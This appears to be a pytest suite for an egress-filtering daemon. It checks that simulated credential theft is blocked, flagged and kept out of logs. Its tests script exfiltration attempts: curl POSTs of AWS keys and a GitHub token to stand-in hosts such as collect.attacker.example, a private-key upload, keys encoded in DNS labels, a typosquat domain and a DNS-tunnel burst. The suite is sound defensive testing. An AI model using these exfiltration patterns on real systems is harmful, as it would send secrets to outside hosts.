"""Issue 5: exfiltration indicators on real traffic, and secrets kept out of the log.

The client does what a credential stealer does: POSTs a key pair to a host of
its own, puts a token in a query string, uploads a private key, hides a key in
DNS labels (plain and base32), resolves a look-alike of an allowed domain and
bursts random subdomains at its own DNS server. Every attempt must be denied
and flagged (doc/indicators.md), reach the attacker with nothing, and leave
no piece of the secret in egressd's log, stdout/stderr or metrics.

Payload indicators need the payload: those tests use `unknown_ip = verify`
(the SYN to the attacker passes; the HTTP Host decides) and pin the name to
the attacker's address with curl --resolve, as a stealer with its own
resolver would.
"""
import json
import os

import pytest

import lab as L
from exfil import common as X

SECRETS_AWS = {"aws access key id": X.AWS_KEY_ID, "aws secret key": X.AWS_SECRET}


def start(lab, **kw):
    e = lab.write_conf(**kw)
    X.with_metrics(e)
    return e.start()


def deny_to(dst, dport, name=None):
    return lambda e: (e.get("event") == "deny" and e.get("dst") == dst
                      and e.get("dport") == dport and (name is None or e.get("name") == name))


def dns_deny_for(qname):
    return lambda e: (e.get("event") == "dns_deny"
                      and e.get("qname", "").rstrip(".").lower() == qname.lower())


def assert_credentials(ev, expected):
    """expected: {type: masked}. Flags, the credentials list and severity critical."""
    inds = ev.get("indicators", [])
    for t in expected:
        assert "credential:" + t in inds, "no credential:%s in %s" % (t, json.dumps(ev))
    creds = {c.get("type"): c.get("masked") for c in ev.get("credentials", [])}
    for t, masked in expected.items():
        assert creds.get(t) == masked, "credentials[%s] = %r, want %r: %s" % (
            t, creds.get(t), masked, json.dumps(ev))
    assert ev.get("severity") == "critical", ev


def post(lab, url, host, data, *extra, addr=L.ATTACKER4, port=80):
    return lab.curl(url, "--resolve", "%s:%d:%s" % (host, port, addr), "--data-binary", data,
                    *extra, timeout=5)


def metrics_text(lab):
    return {"metrics": X.Metrics(lab).text}


@pytest.mark.parametrize("body", ["json", "form"])
def test_aws_key_pair_in_http_post(anylab, body):
    e = start(anylab, unknown_ip="verify")
    host = "collect.attacker.example"
    if body == "json":
        data = json.dumps({"aws_access_key_id": X.AWS_KEY_ID,
                           "aws_secret_access_key": X.AWS_SECRET, "region": "us-east-1"})
        ctype = "application/json"
    else:
        data = "aws_access_key_id=%s&aws_secret_access_key=%s" % (X.AWS_KEY_ID, X.AWS_SECRET)
        ctype = "application/x-www-form-urlencoded"
    p = post(anylab, "http://%s/upload" % host, host, data, "-H", "Content-Type: " + ctype)
    assert p.returncode != 0, "the POST went through: %s" % p.stdout
    assert p.elapsed < 2, "curl took %.2fs to fail" % p.elapsed
    ev = e.wait_event(deny_to(L.ATTACKER4, 80, host), what="deny of the POST to " + host)
    assert ev.get("reason") == "name_not_allowed", ev
    assert ev.get("name_source") == "http_host", ev
    assert ev.get("enforced") is True, ev
    assert_credentials(ev, {"aws_access_key": X.mask(X.AWS_KEY_ID),
                            "aws_secret_key": X.mask(X.AWS_SECRET)})
    anylab.assert_attacker_got_nothing()
    X.assert_no_leak(anylab, SECRETS_AWS, metrics_text(anylab))


def test_github_token_in_query_string(anylab):
    e = start(anylab, unknown_ip="verify")
    host = "api.attacker.example"
    p = anylab.curl("http://%s/v1/collect?repo=acme%%2Fscanner&access_token=%s&ci=1"
                    % (host, X.GITHUB_TOKEN), "--resolve", "%s:80:%s" % (host, L.ATTACKER4),
                    timeout=5)
    assert p.returncode != 0, "the request went through: %s" % p.stdout
    assert p.elapsed < 2, "curl took %.2fs to fail" % p.elapsed
    ev = e.wait_event(deny_to(L.ATTACKER4, 80, host), what="deny of the GET to " + host)
    assert ev.get("reason") == "name_not_allowed", ev
    assert_credentials(ev, {"github_token": X.mask(X.GITHUB_TOKEN)})
    anylab.assert_attacker_got_nothing()
    X.assert_no_leak(anylab, {"github token": X.GITHUB_TOKEN}, metrics_text(anylab))


@pytest.mark.parametrize("kind", ["ec-pkcs8", "rsa-traditional"])
def test_private_key_in_body(anylab, kind):
    """A PEM key uploaded as the body; the RSA one spans more than one TCP segment."""
    keyfile = os.path.join(anylab.dir, "stolen.key")
    if kind == "ec-pkcs8":
        cmd = ["openssl", "genpkey", "-algorithm", "EC", "-pkeyopt",
               "ec_paramgen_curve:prime256v1", "-out", keyfile]
    else:
        cmd = ["openssl", "genrsa", "-traditional", "-out", keyfile, "2048"]
    L.run(cmd)
    with open(keyfile) as f:
        pem = f.read()
    lines = pem.strip().splitlines()
    assert lines[0].startswith("-----BEGIN ") and lines[0].endswith("PRIVATE KEY-----"), lines[0]
    secret_body = "".join(lines[1:-1])
    e = start(anylab, unknown_ip="verify")
    host = "paste.attacker.example"
    p = post(anylab, "http://%s/new" % host, host, "@" + keyfile,
             "-H", "Content-Type: text/plain")
    assert p.returncode != 0, "the upload went through: %s" % p.stdout
    assert p.elapsed < 2, "curl took %.2fs to fail" % p.elapsed
    ev = e.wait_event(deny_to(L.ATTACKER4, 80, host), what="deny of the upload to " + host)
    assert "credential:private_key" in ev.get("indicators", []), ev
    assert [c for c in ev.get("credentials", []) if c.get("type") == "private_key"], ev
    assert ev.get("severity") == "critical", ev
    anylab.assert_attacker_got_nothing()
    # Each base64 line of the key is a secret of its own.
    X.assert_no_leak(anylab, {"private key": secret_body}, metrics_text(anylab))
    for i, line in enumerate(lines[1:-1]):
        X.assert_no_leak(anylab, {"private key line %d" % (i + 1): line})


DNS_LABELS = {"plain": X.AWS_KEY_ID, "base32": X.b32_label(X.AWS_KEY_ID)}


def dns_exfil(lab, encoding):
    qname = "%s.k.attacker.example" % DNS_LABELS[encoding]
    r = lab.dnsq(L.RESOLVER4, qname + "/A")
    assert r.get("rcode") == "REFUSED", r
    assert r["answers"] == []
    return qname


@pytest.mark.parametrize("encoding", ["plain", "base32"])
def test_aws_key_in_dns_label_flagged(anylab, encoding):
    e = start(anylab)
    qname = dns_exfil(anylab, encoding)
    ev = e.wait_event(dns_deny_for("[redacted].attacker.example"),
                      what="dns_deny for [redacted].attacker.example (sent %s)" % qname)
    assert ev.get("enforced") is True, ev
    assert "credential:aws_access_key" in ev.get("indicators", []), ev
    assert ev.get("severity") == "critical", ev
    assert_credentials(ev, {"aws_access_key": X.mask(X.AWS_KEY_ID)})
    anylab.assert_attacker_got_nothing()


@pytest.mark.parametrize("encoding", ["plain", "base32"])
def test_aws_key_in_dns_label_not_logged(anylab, encoding):
    e = start(anylab)
    qname = dns_exfil(anylab, encoding)
    # the labels that carry the key are redacted: only the domain is logged
    e.wait_event(dns_deny_for("[redacted].attacker.example"),
                 what="dns_deny for [redacted].attacker.example (sent %s)" % qname)
    anylab.assert_attacker_got_nothing()
    X.assert_no_leak(anylab, {"aws key id": X.AWS_KEY_ID,
                              "aws key id as sent (%s)" % encoding: DNS_LABELS[encoding]},
                     metrics_text(anylab))


LOOKALIKE = "updates.examp1e.com"   # lab.HOSTS: a look-alike of updates.example.com
IMITATED = "updates.example.com"


def typosquat_events(lab, e):
    """Resolve the look-alike (refused), then connect to it by SNI (verify mode)."""
    assert L.HOSTS[LOOKALIKE][0] == L.ATTACKER4
    r = lab.dnsq(L.RESOLVER4, LOOKALIKE + "/A")
    assert r.get("rcode") == "REFUSED", r
    dev = e.wait_event(dns_deny_for(LOOKALIKE), what="dns_deny for " + LOOKALIKE)
    p = lab.curl("https://%s/upload" % LOOKALIKE, "--resolve",
                 "%s:443:%s" % (LOOKALIKE, L.ATTACKER4), timeout=5)
    assert p.returncode != 0 and p.elapsed < 2, (p.returncode, p.elapsed, p.stderr)
    fev = e.wait_event(deny_to(L.ATTACKER4, 443, LOOKALIKE), what="deny of SNI " + LOOKALIKE)
    assert fev.get("name_source") == "sni", fev
    return dev, fev


def test_typosquat_flagged(anylab):
    e = start(anylab, unknown_ip="verify")
    for ev in typosquat_events(anylab, e):
        assert "typosquat" in ev.get("indicators", []), ev
        assert ev.get("severity") == "high", ev
        assert ev.get("imitates"), ev
    anylab.assert_attacker_got_nothing()


def test_typosquat_imitates_the_allowed_name(anylab):
    e = start(anylab, unknown_ip="verify")
    for ev in typosquat_events(anylab, e):
        assert ev.get("imitates") == IMITATED, ev


def test_no_typosquat_for_unrelated_name(anylab):
    """Control: a denied name that resembles nothing allowed is not a look-alike."""
    e = start(anylab)
    r = anylab.dnsq(L.RESOLVER4, "www.attacker.example/A")
    assert r.get("rcode") == "REFUSED", r
    ev = e.wait_event(dns_deny_for("www.attacker.example"), what="dns_deny")
    assert "typosquat" not in ev.get("indicators", []), ev
    assert not ev.get("credentials"), ev
    assert ev.get("severity") != "critical", ev


BURST = 500
BURST_THRESHOLD = 20   # doc/indicators.md: 20 distinct denied names under one domain in 10 s


def test_dns_tunnel_burst(anylab):
    e = start(anylab)
    r = X.dnsburst(anylab, "attacker.example", BURST, rate=250, seed=5)
    names = r["names"]
    assert len(names) == BURST and len(set(names)) == BURST, r["not_sent"]
    assert r["rcodes"] == {"REFUSED": BURST} and r["unanswered"] == 0, r

    def all_logged():
        evs = [x for x in e.events("dns_deny") if x.get("qname", "").endswith("attacker.example")]
        return evs if sum(x.get("count", 1) for x in evs) >= BURST else None
    evs = L.wait_for(all_logged, 10, "%d dns_deny events" % BURST)
    by_name = {}
    for ev in evs:
        by_name.setdefault(ev["qname"].rstrip("."), []).append(ev)
    assert sorted(by_name) == sorted(names), "events and queries differ"
    assert all(len(v) == 1 and v[0].get("count", 1) == 1 for v in by_name.values())
    # From the 20th distinct name on, every query is flagged as tunnelling.
    late = [by_name[n][0] for n in names[BURST_THRESHOLD - 1:]]
    unflagged = [x for x in late if "dns_tunnel" not in x.get("indicators", [])]
    assert not unflagged, "%d of %d late queries not flagged dns_tunnel, e.g. %s" % (
        len(unflagged), len(late), json.dumps(unflagged[0]))
    assert all(x.get("severity") == "high" and x.get("enforced") is True for x in late)
    anylab.assert_attacker_got_nothing()
    m = X.Metrics(anylab)
    assert m.get("egressd_dns_queries_total", decision="deny") == BURST


def test_identical_denials_aggregated_with_count(anylab):
    """20 identical denied attempts within a second: fewer lines, counts add up to 20."""
    e = start(anylab)
    r = X.connburst(anylab, L.ATTACKER4, 443, 20)
    assert r["refused"] == 20, r

    def total():
        evs = [x for x in e.events("deny") if deny_to(L.ATTACKER4, 443)(x)]
        return sum(x.get("count", 1) for x in evs), evs
    try:
        L.wait_for(lambda: total()[0] >= 20, 5, "the aggregated count to reach 20")
    except TimeoutError:
        raise AssertionError("deny counts add up to %d, want 20:\n%s"
                             % (total()[0], X.events_dump(e)))
    n, evs = total()
    assert n == 20, X.events_dump(e)
    assert len(evs) < 20, "no aggregation: %d lines" % len(evs)
    if r["elapsed"] < 0.9:
        # issue 12: the third denial in 60 s earns `beacon`, a new indicator, so a
        # line of its own; each kind: one line at once, one with the count
        plain = [x.get("count", 1) for x in evs if "beacon" not in x.get("indicators", [])]
        beacon = [x.get("count", 1) for x in evs if "beacon" in x.get("indicators", [])]
        assert len(evs) == 4, "two lines per kind: %s" % X.events_dump(e)
        assert plain == [1, 1] and beacon == [1, 17], X.events_dump(e)
    assert all(x.get("reason") == "ip_not_allowed" for x in evs)
    # Counters count the aggregated repeats too.
    m = X.Metrics(anylab)
    assert m.get("egressd_flows_total", decision="deny", reason="ip_not_allowed") == 20
    anylab.assert_attacker_got_nothing()
